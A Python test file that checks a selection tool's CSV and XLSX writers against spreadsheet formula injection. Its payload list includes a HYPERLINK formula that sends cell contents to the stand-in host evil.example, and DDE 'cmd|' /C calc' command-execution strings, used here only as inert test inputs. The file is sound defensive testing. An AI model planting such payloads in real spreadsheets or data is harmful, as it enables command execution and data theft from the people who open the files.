"""Formula injection (issue 11 item 5): every table the product writes goes through selector.outputs.sheets.
A text cell beginning with = + - @ tab or CR is written to a CSV with a leading apostrophe (OWASP), and
to an XLSX as a string cell (never a formula) with Excel's quote prefix; numbers stay numbers; CSVs carry
a UTF-8 BOM; XLSX files have a bold frozen header, CJK-fitted widths and are byte-reproducible."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from selector.interfaces.cli import app
from selector.outputs.sheets import FORMULA_START, csv_safe, is_formula_like, write_csv, write_xlsx

pytestmark = pytest.mark.usefixtures("english")  # asserts English text: run in English (Chinese is the default)

MINI = Path(__file__).parent / "data" / "mini"
PAYLOADS = ['=HYPERLINK("http://evil.example/?q="&C2,"点击")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "=1+1"]


def test_formula_like_text_is_prefixed_and_numbers_are_not():
    for ch in FORMULA_START:
        assert is_formula_like(ch + "x") and csv_safe(ch + "x") == "'" + ch + "x"
    for plain in ("-12.5", "+3", "-5%", "1e5", "张三", "", "a=b"):
        assert csv_safe(plain) == plain
    for number in (-3, -2.5, 0, None):
        assert csv_safe(number) == number


def test_write_csv_has_a_bom_and_prefixes_only_text(tmp_path):
    frame = pd.DataFrame({"name": [PAYLOADS[0], "王 芳", "-7"], "score": [-1.5, 90.0, 2.0],
                          "rank": pd.Series([1, None, 3], dtype=object)})
    write_csv(frame, tmp_path / "t.csv")
    data = (tmp_path / "t.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["name", "score", "rank"]
    assert rows[1] == ["'" + PAYLOADS[0], "-1.5", "1"]  # a negative number stays a number
    assert rows[2] == ["王 芳", "90.0", ""] and rows[3] == ["-7", "2.0", "3"]


def test_write_xlsx_writes_text_as_text_with_a_frozen_bold_header(tmp_path):
    frame = pd.DataFrame({"姓名": PAYLOADS, "score": [1.0, -2.0, 3.0, 4.0, 5.0, 6.0]})
    write_xlsx(tmp_path / "a.xlsx", {"名单": frame})
    write_xlsx(tmp_path / "b.xlsx", {"名单": frame})
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()  # reproducible
    ws = openpyxl.load_workbook(tmp_path / "a.xlsx")["名单"]
    assert ws.freeze_panes == "A2" and ws["A1"].font.b
    for row in ws.iter_rows(min_row=2):
        assert row[0].data_type == "s" and row[0].value in PAYLOADS
        assert row[0].quotePrefix  # editing it in Excel keeps it text
        assert row[1].data_type == "n"
    # CJK counts double: the widest name is ASCII (46 characters); the header 姓名 is 4 wide
    assert ws.column_dimensions["A"].width == pytest.approx(len(PAYLOADS[0]) + 2 + 2)  # 点击 counts 4


def assert_no_live_formula(folder: Path) -> int:
    """Every CSV cell and every XLSX cell of the folder is inert; returns how many cells were looked at."""
    seen = 0
    for path in sorted(folder.iterdir()):
        if path.suffix == ".csv":
            assert path.read_bytes().startswith(b"\xef\xbb\xbf"), f"{path.name} has no BOM"
            for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))):
                for cell in row:
                    seen += 1
                    assert not is_formula_like(cell), f"{path.name}: {cell!r}"
        elif path.suffix == ".xlsx":
            wb = openpyxl.load_workbook(path)
            for ws in wb.worksheets:
                for row in ws.iter_rows():
                    for c in row:
                        if c.value is None:
                            continue
                        seen += 1
                        assert c.data_type != "f", f"{path.name}!{ws.title}!{c.coordinate}: {c.value!r}"
                        if is_formula_like(c.value):
                            assert c.quotePrefix, f"{path.name}!{ws.title}!{c.coordinate}"
    return seen


def _case(folder: Path, names: list[str], notes: list[str]) -> tuple[Path, Path]:
    """The mini case with these names and a 备注 column (an extra column the pool carries to the outputs)."""
    folder.mkdir(parents=True, exist_ok=True)
    rules = folder / "rules.toml"
    rules.write_bytes((MINI / "rules.toml").read_bytes())
    (folder / "quotas.csv").write_bytes((MINI / "quotas.csv").read_bytes())
    rows = list(csv.reader(io.StringIO((MINI / "pool.csv").read_text(encoding="utf-8"))))
    rows[0].append("备注")
    for i, row in enumerate(rows[1:]):
        row[1] = names[i % len(names)] + (str(i) if i >= len(names) else "")
        row.append(notes[i % len(notes)])
    with open(folder / "pool.csv", "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)
    return rules, folder / "pool.csv"


def _select(rules: Path, pool: Path, out: Path):
    return CliRunner().invoke(app, ["select", "--rules", str(rules), "--individuals", str(pool), "--out", str(out),
                                    "--no-plots"])


def test_the_reported_payloads_are_inert_in_every_output(tmp_path):
    rules, pool = _case(tmp_path / "case", PAYLOADS, ["=HYPERLINK(\"http://x\",\"点击\")", "+备注", "@x", "正常"])
    res = _select(rules, pool, tmp_path / "out")
    assert res.exit_code == 0, res.output
    assert assert_no_live_formula(tmp_path / "out") > 100
    text = (tmp_path / "out" / "labour_model.csv").read_bytes().decode("utf-8-sig")
    assert "'=cmd|' /C calc'!A0" in text or "'" + PAYLOADS[0] in text.replace('""', '"')
    check = CliRunner().invoke(app, ["check", "--rules", str(rules), "--individuals", str(pool),
                                     "--out", str(tmp_path / "check")])
    assert check.exit_code in (0, 1), check.output
    assert assert_no_live_formula(tmp_path / "check") > 10
    tmpl = CliRunner().invoke(app, ["template", "--rules", str(rules), "--out", str(tmp_path / "tmpl")])
    assert tmpl.exit_code == 0, tmpl.output
    assert_no_live_formula(tmp_path / "tmpl")


_TEXT = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Zl", "Zp", "Co", "Cn")),
                min_size=0, max_size=12)
_CELL = st.builds(lambda head, rest: head + rest, st.sampled_from(["=", "+", "-", "@", "", "张"]), _TEXT).filter(
    lambda s: s.strip() == s and s != "")


@settings(max_examples=6, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(names=st.lists(_CELL, min_size=8, max_size=8, unique=True), notes=st.lists(_CELL, min_size=1, max_size=4))
def test_no_output_cell_of_any_format_starts_a_formula(tmp_path_factory, names, notes):
    """Whatever a candidate's name or remark holds, no CSV cell starts with = + - @ (unless it is a plain
    number) and no XLSX cell is a formula."""
    base = tmp_path_factory.mktemp("inj")
    rules, pool = _case(base / "case", names, notes)
    res = _select(rules, pool, base / "out")
    if res.exit_code == 2:  # a name the reader refuses (e.g. a lone '-' it reads as blank): nothing written
        assert not (base / "out").exists()
        return
    assert res.exit_code in (0, 1), res.output
    assert_no_live_formula(base / "out")
